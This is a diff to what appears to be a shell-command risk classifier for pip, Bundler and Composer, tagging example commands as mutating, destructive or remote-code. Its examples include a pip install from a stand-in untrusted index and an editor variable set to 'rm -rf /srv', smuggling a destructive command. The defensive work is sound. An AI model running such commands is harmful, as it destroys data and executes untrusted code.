@@ -666,7 +666,7 @@ PIP_INSTALL = (
     *flags("--no-warn-conflicts, --no-clean, --root-user-action-ignore"),
     *values("--upgrade-strategy, --root-user-action"),
     option("-t", "--target", "--root", "--prefix", "--report", takes=WRITE),
-    option("--dry-run", harmless=True),
+    option("--dry-run"),  # packages are fetched and built all the same
 )
 PYTHON = (
     command(
@@ -768,7 +768,7 @@ PYTHON = (
             example("pip list --outdated"),
             example("pip show requests"),
             example("pip install requests", PACKAGE, MUTATION),
-            example("pip install --dry-run requests"),
+            example("pip install --dry-run requests", MUTATION, PACKAGE),
             example("pip install git+https://x.example/x.git", PACKAGE, MUTATION, REMOTE_CODE),
             example("pip install evil --index-url http://x.example", PACKAGE, MUTATION, REMOTE_CODE),
             example("pip install -e .", PACKAGE, MUTATION, PROJECT_CODE),
@@ -1693,8 +1693,12 @@ MORE = (
         ),
         environment=(variable("BUNDLE_GEMFILE", "BUNDLE_PATH", "BUNDLE_APP_CONFIG", takes=CONTEXT),),
         subcommands=(
+            subcommand("list", "show", "info", "outdated", "check", "platform", "licenses", "env", "doctor", "help", "viz", operands=WORDS),
             subcommand(
-                "list", "show", "info", "outdated", "check", "platform", "licenses", "env", "doctor", "help", "viz", "open", operands=WORDS
+                "open",
+                operands=WORDS,
+                environment=(variable("BUNDLER_EDITOR", "EDITOR", "VISUAL", takes=PROGRAM, harmless=("", "vi", "vim", "nano", "code")),),
+                examples=(example("bundle open rake"), example("BUNDLER_EDITOR='rm -rf /srv' bundle open rake", DESTRUCTIVE, OPAQUE)),
             ),
             subcommand(
                 "install",
@@ -1739,6 +1743,10 @@ MORE = (
             option("-d", "--working-dir", takes=DIRECTORY),
             option("--dry-run", harmless=True),
             *values("--ignore-platform-req, -f --format, --repository"),
+        ),
+        environment=(
+            variable("COMPOSER_HOME", "COMPOSER", takes=CONTEXT),
+            variable("COMPOSER_VENDOR_DIR", "COMPOSER_BIN_DIR", "COMPOSER_CACHE_DIR", takes=WRITE),
         ),
         subcommands=(
             subcommand(
